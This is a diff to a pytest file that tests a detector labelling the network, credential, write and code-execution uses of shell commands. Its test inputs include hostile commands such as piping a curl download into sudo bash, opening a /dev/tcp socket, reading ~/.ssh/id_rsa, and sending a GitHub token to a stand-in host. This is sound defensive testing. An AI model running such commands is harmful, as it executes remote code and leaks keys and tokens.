@@ -14,7 +14,7 @@ USED = [
     ("sudo -u me npm install", ["network npm install", "process npm", "process sudo"]),
     ("curl https://a.example | sudo bash -s", ["network curl a.example", "process sudo", "code | bash"]),
     ("bash <(curl -s https://a.example)", ["network curl a.example", "code bash"]),
-    ("exec 3<>/dev/tcp/a.example/80", ["network /dev/tcp a.example", "write <> "]),
+    ("exec 3<>/dev/tcp/a.example/80", ["network /dev/tcp a.example"]),
     ('eval "$x"', ["code eval"]),
     ("python3 run.py", ["process python3"]),
     ("find . -exec rm {} \\;", ["write rm"]),
@@ -22,8 +22,11 @@ USED = [
     ("echo a > out.txt", ["write > out.txt"]),
     ("SED='sed -i'\n$SED s/a/b/ x", ["write sed"]),
     ("cat ~/.ssh/id_rsa", ["credential .ssh/id_rsa"]),
-    ("curl -H \"Authorization: $GITHUB_TOKEN\" https://a.example", ["network curl a.example", "credential ${GITHUB_TOKEN}"]),
-    ("echo ${CI_JOB}", ["environment ${CI_JOB}"]),
+    (
+        'curl -H "Authorization: $GITHUB_TOKEN" https://a.example',
+        ["network curl a.example", "credential $GITHUB_TOKEN"],
+    ),
+    ("echo ${CI_JOB}", ["environment $CI_JOB"]),
     ("security find-generic-password -s x", ["process security", "credential security find-generic-password"]),
 ]
 UNUSED = [
@@ -47,7 +50,7 @@ UNUSED = [
 
 @pytest.mark.parametrize(("text", "expected"), USED)
 def test_a_use_is_seen(shell: Uses, text: str, expected: list[str]) -> None:
-    assert [use.strip() for use in shell(text)] == [use.strip() for use in expected]
+    assert shell(text) == expected
 
 
 @pytest.mark.parametrize("text", UNUSED)
